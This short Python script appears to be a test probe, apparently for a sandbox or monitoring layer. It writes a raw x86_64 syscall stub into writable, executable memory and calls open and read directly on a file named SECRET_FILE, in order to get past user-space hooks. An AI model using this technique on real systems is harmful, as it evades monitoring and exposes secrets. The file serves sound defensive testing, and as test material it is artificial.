# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""Run machine code from a writable and executable mapping, past every hook in user space.

Classic shellcode: open, read, with the processor's own instruction.
"""

# act: read
# needs: x86_64

import ctypes
import mmap

# int call(number, a, b, c): mov rax, rdi; mov rdi, rsi; mov rsi, rdx; mov rdx, rcx; syscall; ret
code = bytes.fromhex('4889f8 4889f7 4889d6 4889ca 0f05 c3'.replace(' ', ''))
memory = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
memory.write(code)
address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
call = ctypes.CFUNCTYPE(
    ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p, ctypes.c_long)(address)
path = ctypes.create_string_buffer(SECRET_FILE.encode())
buffer = ctypes.create_string_buffer(4096)
fd = call(2, ctypes.addressof(path), None, 0)
count = call(0, fd, ctypes.addressof(buffer), 4096)
print(buffer.raw[:max(0, count)])
